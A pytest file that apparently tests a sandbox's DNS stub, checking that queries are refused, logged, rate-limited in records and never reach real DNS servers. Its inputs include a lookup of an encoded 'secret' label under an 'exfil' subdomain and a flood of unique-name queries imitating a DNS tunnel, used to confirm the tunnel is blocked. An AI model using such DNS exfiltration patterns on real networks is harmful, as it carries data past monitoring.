"""The sandbox's DNS stub: local resolution fails fast with REFUSED, every query is
recorded, and no query reaches a real DNS server (DNS cannot carry data out)."""

from __future__ import annotations

import pytest

pytestmark = pytest.mark.kernel


def test_a_local_lookup_fails_fast_and_is_recorded_and_nothing_leaves(gatewrap, net):
    net.clear_logs()
    r = gatewrap(python="""
        import socket, time
        t = time.monotonic()
        try:
            socket.getaddrinfo("c2VjcmV0.exfil.allowed.test", 443)
            print("resolved")
        except socket.gaierror as e:
            print("gaierror", time.monotonic() - t < 2)
    """, allow=["*.allowed.test"])
    assert r.stdout == "gaierror True\n", r.stderr
    recs = r.records(event="dns")
    assert recs and all(x["decision"] == "denied" and x["dst_host"] == "c2VjcmV0.exfil.allowed.test" for x in recs)
    assert "refused a DNS query for c2VjcmV0.exfil.allowed.test" in r.stderr
    assert r.stderr.count("refused a DNS query") == 1  # repeats (A/AAAA, two servers) are folded
    assert net.dns_queries() == []


@pytest.mark.parametrize("transport", ["+notcp", "+tcp"])
def test_the_stub_answers_refused_over_udp_and_tcp(gatewrap, transport):
    r = gatewrap(["dig", transport, "+tries=1", "+time=2", "@127.0.0.1", "example.com", "A"])
    assert "status: REFUSED" in r.stdout, r.stdout + r.stderr
    (rec,) = r.records(event="dns")
    assert rec["dst_host"] == "example.com" and rec["proto"] == "dns"


def test_proxied_requests_still_resolve_through_the_gate(gatewrap):
    r = gatewrap(["curl", "-sS", "--max-time", "10", "http://allowed.test/"], allow=["allowed.test"])
    assert r.stdout == "hello from allowed.test over http\n", r.stderr
    assert r.records(event="dns") == []


def test_a_query_flood_is_counted_exactly_in_few_records(gatewrap):
    """5000 UDP queries as fast as the agent can send them (unique names, as a DNS tunnel
    would), in two bursts a second apart: every one is answered REFUSED and counted, but the
    log gets at most about 100 records a second (the rest told in one record a second with
    their count; a window's count was lost when the next one opened)."""
    r = gatewrap(python="""
        import socket, struct, time
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(2)
        t, answered = time.monotonic(), 0
        for i in range(5000):
            name = b"".join(bytes([len(p)]) + p for p in (b"x%05d" % i, b"flood", b"test")) + b"\\0"
            s.sendto(struct.pack(">HHHHHH", i, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1), ("127.0.0.1", 53))
            answered += len(s.recv(512)) > 0
            if i == 2500:
                time.sleep(1.1)  # the flood spans record windows whatever the host's speed
        print(answered, round(time.monotonic() - t, 3))
    """)
    answered, took = r.stdout.split()
    assert int(answered) == 5000, r.stderr
    recs = r.records(event="dns")
    assert sum(x.get("count", 1) for x in recs) == 5000
    # at most 100 one by one per started second, plus one summary record each
    assert len(recs) <= 101 * (int(float(took)) + 2), len(recs)
    assert any(x.get("count", 1) > 1 and "over 100 records a second" in x["reason"] for x in recs)
    (end,) = r.records(event="run_end")
    assert end["denied"] == 5000


def test_localhost_resolves_in_the_jail_whatever_the_hosts_file_of_the_host_says(gatewrap):
    """The jail's /etc/hosts is gatewrap's (loopback names only): a debootstrapped host's is
    empty, and the host's other names are not the agent's to dial."""
    r = gatewrap(python="""
        import socket
        print(sorted({a[4][0] for a in socket.getaddrinfo("localhost", 80, type=socket.SOCK_STREAM)}))
    """)
    assert r.stdout == "['127.0.0.1', '::1']\n", r.stderr
    assert r.records(event="dns") == []
